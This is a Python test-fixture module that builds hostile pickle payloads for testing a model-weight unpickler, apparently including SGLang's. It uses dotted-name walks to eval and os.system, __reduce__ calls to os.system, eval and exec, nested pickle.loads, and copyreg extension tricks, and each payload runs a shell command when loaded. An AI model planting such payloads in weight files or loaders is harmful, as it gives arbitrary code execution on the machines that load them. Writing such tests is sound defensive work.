"""Hostile pickles for the weight-payload unpickler tests (and the same payloads run against
SGLang's own unpickler in its venv): each would run the shell `command` if it got through.

What it does: builds the raw pickle bytes by hand (protocol 4 STACK_GLOBAL dotted-name walks,
the GLOBAL opcode) or with pickle.dumps of objects whose __reduce__ names a function. What it
does not: unpickle anything, or import pytest (the SGLang venv has none).
"""

from __future__ import annotations

import builtins
import copyreg
import functools
import os
import pickle


def _str(s: str) -> bytes:
    data = s.encode()
    return b"\x8c" + bytes([len(data)]) + data  # SHORT_BINUNICODE


def _stack_global(module: str, name: str) -> bytes:
    return _str(module) + _str(name) + b"\x93"


def _call1(arg: str) -> bytes:
    return _str(arg) + b"\x85R"  # TUPLE1, REDUCE


def dotted_eval(command: str) -> bytes:
    """The probe's payload: dict.get of the builtins reached by attribute walk, then eval."""
    code = f"__import__('os').system({command!r})"
    return (b"\x80\x04" + _stack_global("torch._utils", "_rebuild_tensor.__builtins__.get")
            + _call1("eval") + _call1(code) + b".")


def dotted_eval_text_global(command: str) -> bytes:
    """The same walk through the protocol 0-3 GLOBAL opcode inside a protocol 4 stream."""
    code = f"__import__('os').system({command!r})"
    return (b"\x80\x04" + b"ctorch._utils\n_rebuild_tensor.__builtins__.get\n"
            + _call1("eval") + _call1(code) + b".")


def _dotted_from_allowed_name(command: str) -> bytes:
    """The same walk from a function a tensor dump does name (reductions.rebuild_tensor)."""
    code = f"__import__('os').system({command!r})"
    return (b"\x80\x04" + _stack_global("torch.multiprocessing.reductions", "rebuild_tensor.__builtins__.get")
            + _call1("eval") + _call1(code) + b".")


def _dotted_module_attribute(command: str) -> bytes:
    """A module the dump names, walked to a module it imports: reductions.os.system."""
    return b"\x80\x04" + _stack_global("torch.multiprocessing.reductions", "os.system") + _call1(command) + b"."


class _Reduce:
    def __init__(self, fn, *args) -> None:
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args


def _reduce_payloads(command: str) -> dict[str, bytes]:
    code = f"__import__('os').system({command!r})"
    inner = pickle.dumps([("w", _Reduce(os.system, command))])
    return {
        "reduce_os_system": pickle.dumps([("w", _Reduce(os.system, command))]),
        "reduce_eval": pickle.dumps([("w", _Reduce(builtins.eval, code))]),
        "reduce_exec": pickle.dumps([("w", _Reduce(builtins.exec, code))]),
        "copyreg_reconstructor": pickle.dumps(
            [("w", _Reduce(copyreg._reconstructor, _Reduce, object, None))], protocol=2),
        "functools_partial": pickle.dumps([("w", _Reduce(functools.partial(os.system, command)))]),
        "nested_pickle_loads": pickle.dumps([("w", _Reduce(pickle.loads, inner))]),
        "protocol0_global": pickle.dumps([("w", _Reduce(os.system, command))], protocol=0),
    }


def _extension_payload(command: str) -> bytes:
    """os.system by copyreg's extension registry (the EXT1 opcode, no name in the stream)."""
    copyreg.add_extension("posix", "system", 0xF0)
    try:
        return pickle.dumps([("w", _Reduce(os.system, command))], protocol=2)
    finally:
        copyreg.remove_extension("posix", "system", 0xF0)


def hostile_payloads(command: str) -> dict[str, bytes]:
    return {
        "dotted_builtins_eval": dotted_eval(command),
        "dotted_builtins_eval_text_global": dotted_eval_text_global(command),
        "dotted_from_allowed_name": _dotted_from_allowed_name(command),
        "dotted_module_attribute": _dotted_module_attribute(command),
        **_reduce_payloads(command),
        "copyreg_extension": _extension_payload(command),
        "build_opcode": b"\x80\x04" + _stack_global("torch", "Tensor") + b")\x81}b.",
        "trailing_bytes": pickle.dumps([]) + dotted_eval(command),
    }
